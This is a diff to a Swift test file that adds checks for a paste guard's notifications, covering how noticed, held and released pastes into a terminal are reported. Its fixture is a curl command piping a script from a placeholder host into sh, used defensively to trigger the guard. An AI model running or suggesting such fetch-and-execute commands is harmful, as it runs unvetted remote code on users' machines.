@@ -1,3 +1,4 @@
+import RichText
 import Sanitizer
 import Selections
 import Testing
@@ -42,5 +43,27 @@ struct NotificationTests {
     let notification = try #require(
       Notification(report(.left, reason: .tooLarge, source: "<b>\u{1B}&amp;"), show: .problems))
     #expect(notification.body == " b  amp;: it passes a limit of size or complexity")
+  }
+
+  // MARK: The guard
+
+  private func notification(
+    _ event: CopyReport.Judgement.Paste.Event, of application: String = "xterm", show: NotificationSettings.Show
+  ) throws -> Notification? {
+    let text = try PlainTextFormat().read(Array("curl http://fix.example/marker.sh | sh\n".utf8)).document
+    let assessment = PasteReview.assess(text)
+    let judgement = try #require(CopyReport.Judgement(assessment, GuardSettings()))
+    return Notification(.init(application: application, event: event), judgement, show: show, number: 7)
+  }
+
+  @Test func `a guarded paste is told by its reasons, and a held one has a button`() throws {
+    let noticed = try #require(try notification(.noticed, show: .problems))
+    #expect(noticed.summary == "Dangerous text in xterm" && noticed.action == nil)
+    #expect(noticed.body.contains("runs it at once") && !noticed.body.contains("marker"))
+    let held = try #require(try notification(.held, show: .all))
+    #expect(held.summary == "Paste into xterm held" && held.action?.number == 7)
+    #expect(held.body.contains("paste again") && !held.body.contains("marker"))
+    #expect(try notification(.released, show: .all) == nil)
+    #expect(try notification(.noticed, show: .off) == nil && notification(.held, show: .off) == nil)
   }
 }
